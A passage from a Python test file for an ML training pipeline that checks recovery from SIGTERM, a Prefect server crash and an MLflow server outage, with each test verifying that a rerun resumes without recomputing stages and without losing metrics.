        return (Manifest.load(RunDir(run_dir)).stage(k, stage) or {}).get("status") == "done"
    except (ManifestError, OSError):
        return False


def test_sigterm_waits_for_a_safe_point_and_a_second_one_does_not():
    """The first SIGTERM is a request (a stage finishes, then stops: hir_core/termination.py);
    a second one stops at once."""
    from hir_core.termination import Terminated, defer_sigterm, requested, stop_if_requested

    before = signal.getsignal(signal.SIGTERM)  # SIG_DFL, or one a library set (ray.init)
    with defer_sigterm():
        os.kill(os.getpid(), signal.SIGTERM)
        time.sleep(0.01)  # the handler runs between two bytecodes of this thread
        assert requested()
        with pytest.raises(Terminated):
            stop_if_requested()
        with pytest.raises(Terminated):
            os.kill(os.getpid(), signal.SIGTERM)
            time.sleep(0.5)
    assert signal.getsignal(signal.SIGTERM) is before  # put back as it was


def test_sigterm_stops_hir_train_cleanly_and_the_rerun_resumes(hir_run, tmp_path):
    """A real ``hir train`` subprocess gets SIGTERM (what a scheduler sends) once iteration
    0's rollouts are recorded: it stops once the stage it is computing is recorded, exits
    143 with one line saying so, its lock is released, its MLflow run is marked FAILED
    (cleanup ran, unlike SIGKILL); the rerun continues the same MLflow run, recomputes none
    of the recorded stages and ends with the uninterrupted run's tables and weights. (The
    first version raised from the signal handler: langdetect's bare ``except:`` caught it
    inside a verifier, which gave a False verdict, and the run went on to the end.)"""
    from mlflow import MlflowClient
    from prefect.settings import PREFECT_API_URL

    from flows.train import train

    run_dir = tmp_path / "termed"
    uri = mlflow_uri(tmp_path)
    env = subprocess_env(PREFECT_API_URL=PREFECT_API_URL.value())
    cmd = [sys.executable, "-m", "flows.cli", "train", str(TINY), "--run-dir", str(run_dir)]
    proc = subprocess.Popen(
        cmd + overrides("hir", uri),
        env=env,
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:
        _wait_for(lambda: _recorded(run_dir, 0, "rollouts"), 300, "iteration 0's rollouts", proc)
        proc.send_signal(signal.SIGTERM)
        out, _ = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == EXIT_TERMINATED, out[-3000:]
    assert "terminated (SIGTERM)" in out and "Traceback" not in out
    with RunDir(run_dir).lock(holder="test"):  # released
        pass
    assert Manifest.load(RunDir(run_dir)).completed_iterations() == 0
    run_id = json.loads((run_dir / "mlflow.json").read_text())["run_id"]
    assert MlflowClient(tracking_uri=uri).get_run(run_id).info.status == "FAILED"
    from tests._helpers_flows import finished_times

    before = {k: t for k, t in finished_times(run_dir).items() if t is not None}
    assert "0/rollouts" in before

    summary = train(config=str(TINY), run_dir=str(run_dir), overrides=overrides("hir", uri))
    assert summary["mlflow_run_id"] == run_id
    after = finished_times(run_dir)
    assert {key: after[key] for key in before} == before  # nothing recorded was recomputed
    assert output_files(run_dir) == output_files(hir_run)
    assert MlflowClient(tracking_uri=uri).get_run(run_id).info.status == "FINISHED"


# ================================================================== faults: Prefect


def _prefect_server(home: Path, port: int) -> subprocess.Popen:
    """A real ``prefect server start`` on 127.0.0.1:``port`` (API only), its sqlite database
    in ``home``: started again on the same ``home``, it comes back with its history."""
    env = subprocess_env(
        PREFECT_HOME=str(home),
        PREFECT_API_DATABASE_CONNECTION_URL=f"sqlite+aiosqlite:///{home / 'prefect.db'}",
        PREFECT_SERVER_ANALYTICS_ENABLED="false",
    )
    env.pop("PREFECT_API_URL", None)
    cmd = [str(Path(sys.executable).with_name("prefect")), "server", "start"]
    cmd += ["--host", "127.0.0.1", "--port", str(port), "--no-services", "--no-ui"]
    # A session of its own: the server and anything it spawns are stopped as one group.
    proc = subprocess.Popen(
        cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    )

    def healthy() -> bool:
        import httpx

        try:
            return httpx.get(f"http://127.0.0.1:{port}/api/health", timeout=1).text == "true"
        except httpx.HTTPError:
            return False

    _wait_for(healthy, 120, "the Prefect server", proc)
    return proc


def _kill_group(proc: subprocess.Popen) -> None:
    """SIGKILL: the server goes away at once, as a crashed or rebooted host does."""
    if proc.poll() is None:
        os.killpg(proc.pid, signal.SIGKILL)
    proc.wait(timeout=30)


def test_prefect_server_gone_mid_run_then_back(hir_run, tmp_path):
    """A real Prefect server is killed while a real ``hir train`` subprocess runs against it
    (once iteration 0's rollouts are recorded). Defined behaviour (flows/cli.py): the stage
    computing goes on; the first call that needs the API fails after Prefect's client
    retries (one here, to keep the test short; five by default) and ``hir train`` exits 5
    with one line naming the API; the lock is released and every stage recorded is kept.
    The server is started again on its database; the rerun recomputes none of the recorded
    stages, ends with the weights and tables of the uninterrupted run, and the server shows
    both flow runs, the rerun Completed."""
    from prefect import get_client
    from prefect.events.worker import EventsWorker
    from prefect.settings import PREFECT_API_URL, temporary_settings

    from flows.cli import EXIT_API_DOWN
    from flows.train import train
    from tests._helpers_flows import finished_times

    home, port = tmp_path / "prefect", _free_port()
    home.mkdir()
    url = f"http://127.0.0.1:{port}/api"
    server = _prefect_server(home, port)
    run_dir, uri = tmp_path / "run", mlflow_uri(tmp_path)
    env = subprocess_env(PREFECT_API_URL=url, PREFECT_CLIENT_MAX_RETRIES="1")
    cmd = [sys.executable, "-m", "flows.cli", "train", str(TINY), "--run-dir", str(run_dir)]
    proc = subprocess.Popen(
        cmd + overrides("hir", uri),
        env=env,
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    try:
        _wait_for(lambda: _recorded(run_dir, 0, "rollouts"), 300, "iteration 0's rollouts", proc)
        _kill_group(server)
        out, _ = proc.communicate(timeout=240)
    finally:
        if proc.poll() is None:
            proc.kill()
        _kill_group(server)
    assert proc.returncode == EXIT_API_DOWN, out[-3000:]
    errors = [line for line in out.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1, out[-3000:]
    assert errors[0].startswith(f"error: the Prefect API {url} did not answer"), errors
    assert "rerun the same command" in errors[0]
    # The command ends on that line (Prefect's task log above it shows the failed call).
    assert out.strip().splitlines()[-1] == errors[0], out[-3000:]
    with RunDir(run_dir).lock(holder="test"):  # released
        pass
    before = {k: t for k, t in finished_times(run_dir).items() if t is not None}
    assert "0/rollouts" in before

    server = _prefect_server(home, port)
    try:
        with temporary_settings(updates={PREFECT_API_URL: url}):
            train(config=str(TINY), run_dir=str(run_dir), overrides=overrides("hir", uri))
            with get_client(sync_client=True) as client:
                states = sorted(r.state_type.value for r in client.read_flow_runs())
            # The rerun's task-run events go to this server before it stops (else the
            # session's harness would try to send them to it at exit, seconds each).
            EventsWorker.drain_all()
    finally:
        _kill_group(server)
    after = finished_times(run_dir)
    assert {key: after[key] for key in before} == before  # nothing recorded was recomputed
    assert output_files(run_dir) == output_files(hir_run)
    assert len(states) == 2 and "COMPLETED" in states, states


# ================================================================== faults: MLflow


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def _mlflow_server(store: Path, port: int) -> subprocess.Popen:
    cmd = [
        str(Path(sys.executable).with_name("mlflow")),
        "server",
        "--backend-store-uri",
        f"sqlite:///{store / 'mlflow.db'}",
        "--default-artifact-root",
        str(store / "artifacts"),
        "--host",
        "127.0.0.1",
        "--port",
        str(port),
        "--workers",
        "1",
    ]
    proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def up() -> bool:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5):
                return True
        except OSError:
            return False

    _wait_for(up, 120, "the MLflow server", proc)
    return proc


def _stop(proc: subprocess.Popen) -> None:
    proc.terminate()
    try:
        proc.wait(timeout=30)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()


def test_mlflow_server_down_mid_run_loses_no_metric(tmp_path, monkeypatch, caplog):
    """A real MLflow tracking server stops after the run is opened: logging metrics, an
    artifact, the final policy and the run's end neither raises nor loses anything (kept in
    mlflow.pending.jsonl, with a warning naming it); when the server is back, the next call
    logs them in order, and the run ends FINISHED with every step's metric."""
    from mlflow import MlflowClient

    from tasks.tracking import PENDING_FILE, Tracker, pending_count

    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_TIMEOUT", "5")
    port = _free_port()
    uri = f"http://127.0.0.1:{port}"
    cfg = load_config(TINY, [f"tracking.mlflow_tracking_uri={uri}"])
    rundir = RunDir(tmp_path / "run")
    rundir.init(cfg)
    server = _mlflow_server(tmp_path / "store", port)
    try:
        tracker = Tracker.open(cfg, rundir)
        tracker.log_metrics({"ila": 0.1}, step=0)
        _stop(server)
        tracker.log_metrics({"ila": 0.2, "cla": 0.5}, step=1)  # the store is gone: no raise
        tracker.log_artifact(rundir.config_path, "iter-0001")
        model, tokenizer = build_tiny_random(0)
        policy = save_model(model, tokenizer, rundir.checkpoint_dir(1))
        assert tracker.log_policy(policy, "tiny-policy", 1) is None
        tracker.finish("FINISHED")
        kept = (rundir.root / PENDING_FILE).read_text().splitlines()
        assert [json.loads(line)["kind"] for line in kept] == [
            "metrics",
            "artifact",
            "policy",
            "terminate",
        ]
        assert pending_count(rundir.root) == 4
        assert str(rundir.root / PENDING_FILE) in caplog.text
        server = _mlflow_server(tmp_path / "store", port)
        tracker.log_metrics({"ila": 0.3}, step=2)  # back: the waiting records go first
        assert pending_count(rundir.root) == 0
        client = MlflowClient(tracking_uri=uri)
        history = client.get_metric_history(tracker.run_id, "ila")
        assert [(m.step, m.value) for m in history] == [(0, 0.1), (1, 0.2), (2, 0.3)]
        run = client.get_run(tracker.run_id)
        assert run.data.tags["hir.policy_iteration"] == "1"
        assert {a.path for a in client.list_artifacts(tracker.run_id, "iter-0001")} == {
            "iter-0001/config.yaml"
        }
        assert run.info.status == "FINISHED"
    finally:
        _stop(server)
